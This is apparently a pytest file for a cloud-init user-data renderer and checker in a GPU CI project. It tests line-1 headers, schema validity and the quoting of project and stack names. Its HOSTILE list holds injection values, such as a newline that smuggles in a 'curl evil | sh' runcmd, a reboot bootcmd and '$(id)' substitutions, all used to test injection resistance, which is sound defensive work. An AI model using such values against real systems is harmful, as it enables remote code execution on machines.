"""User data: cloud-init must actually run it (the Kubeflow bootstrap.sh never ran)."""

from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
import yaml

from components.oci.cloud_init import UserDataError, check_user_data, render_vm_user_data

LICENCE = "\n".join(f"# line {n} of a licence header" for n in range(1, 18))


def test_rendered_user_data_starts_with_cloud_config() -> None:
    text = render_vm_user_data(project="gpu-ci", stack="dev", role="gpu-runner", index=3)
    assert text.splitlines()[0] == "#cloud-config"
    body = yaml.safe_load(text)
    assert body["resize_rootfs"] is True
    assert '"index": 3' in body["write_files"][0]["content"]


def test_the_kubeflow_defect_is_caught_with_its_line_number() -> None:
    bootstrap = f"{LICENCE}\n#!/bin/bash\napt-get update\n"
    with pytest.raises(UserDataError) as caught:
        check_user_data(bootstrap, source="bootstrap.sh")
    assert str(caught.value) == (
        "bootstrap.sh: cloud-init would ignore this user data: its '#!/bin/bash' is on "
        "line 18, and cloud-init only looks at line 1; move it to the top"
    )


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("apt-get update\n", "line 1 must be '#!' (a script) or '#cloud-config'"),
        ("#cloud-config\n- a\n- b\n", "#cloud-config must be a YAML mapping"),
        ("#cloud-config\nkey: [unclosed\n", "#cloud-config is not valid YAML"),
    ],
)
def test_user_data_cloud_init_would_not_run(text: str, message: str) -> None:
    with pytest.raises(UserDataError, match=re.escape(message)):
        check_user_data(text, source="ud")


def test_scripts_and_cloud_config_pass() -> None:
    check_user_data("#!/bin/bash\necho hi\n", source="ud")
    check_user_data("#cloud-config\npackages: [jq]\n", source="ud")


def _cloud_init() -> str:
    found = shutil.which("cloud-init")
    if found is None:
        if os.environ.get("CI"):
            pytest.fail("cloud-init is not installed; .ci/run installs Debian's cloud-init")
        pytest.skip("cloud-init is not installed (apt-get install cloud-init)")
    return found


def test_rendered_user_data_passes_cloud_init_schema(tmp_path: Path) -> None:
    path = tmp_path / "user-data"
    path.write_text(render_vm_user_data(project="gpu-ci", stack="dev", role="gpu-runner", index=0))
    done = subprocess.run(
        [_cloud_init(), "schema", "--config-file", str(path)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    assert "Valid cloud-config" in done.stdout


def test_cloud_init_schema_would_catch_a_bad_key(tmp_path: Path) -> None:
    path = tmp_path / "user-data"
    path.write_text("#cloud-config\nwrite_files: 3\n")
    done = subprocess.run(
        [_cloud_init(), "schema", "--config-file", str(path)],
        capture_output=True,
        text=True,
        check=False,
    )
    assert done.returncode != 0


# -- what user data embeds is quoted (issue 29, class 5) -------------------------------------

HOSTILE = [
    ("gpu-ci\nruncmd: [[sh, -c, 'curl evil | sh']]", "dev"),
    ("gpu-ci", "dev\r\nbootcmd: [reboot]"),
    ("gpu-ci", "a$(id)`id`!x"),
    ("gpu-ci", "dev\u2028runcmd: [reboot]\u0085x"),
    ("#cloud-config", "' \" # : - [ { &a *a"),
]


@pytest.mark.parametrize(("project", "stack"), HOSTILE)
def test_names_the_cli_would_refuse_stay_inside_their_comment(project: str, stack: str) -> None:
    """The CLI refuses such names, unless its validation is off (PULUMI_DISABLE_VALIDATION);
    the user data still holds only its own keys, and the names only as data."""
    text = render_vm_user_data(project=project, stack=stack, role="gpu-runner", index=0)
    head, comment, *rest = text.split("\n")
    assert head == "#cloud-config"
    assert comment.startswith("# gpu-ci ") and all(not line.startswith("#") for line in rest)
    assert comment.isascii() and not any(c in comment for c in "$`!\r\x85")
    body = yaml.safe_load(text)
    assert sorted(body) == ["growpart", "resize_rootfs", "write_files"]
    assert len(body["write_files"]) == 1
    identity = json.loads(body["write_files"][0]["content"])
    assert (identity["project"], identity["stack"]) == (project, stack)


def test_a_quoted_name_reads_back_as_written() -> None:
    text = render_vm_user_data(project="gpu-ci", stack="a$(id)\nx", role="gpu-runner", index=0)
    comment = text.split("\n")[1]
    assert comment == (
        '# gpu-ci gpu-ci/"a\\u0024(id)\\nx": gpu-runner 0. Host software comes from the host layer.'
    )
    assert json.loads(comment.split("/", 1)[1].split(":")[0]) == "a$(id)\nx"


def test_plain_names_are_embedded_as_written() -> None:
    """Names the CLI takes are written as before: no existing VM's user data changes."""
    text = render_vm_user_data(project="gpu-ci", stack="gpu-dev.2_x", role="gpu-runner", index=1)
    assert text.split("\n")[1] == (
        "# gpu-ci gpu-ci/gpu-dev.2_x: gpu-runner 1. Host software comes from the host layer."
    )
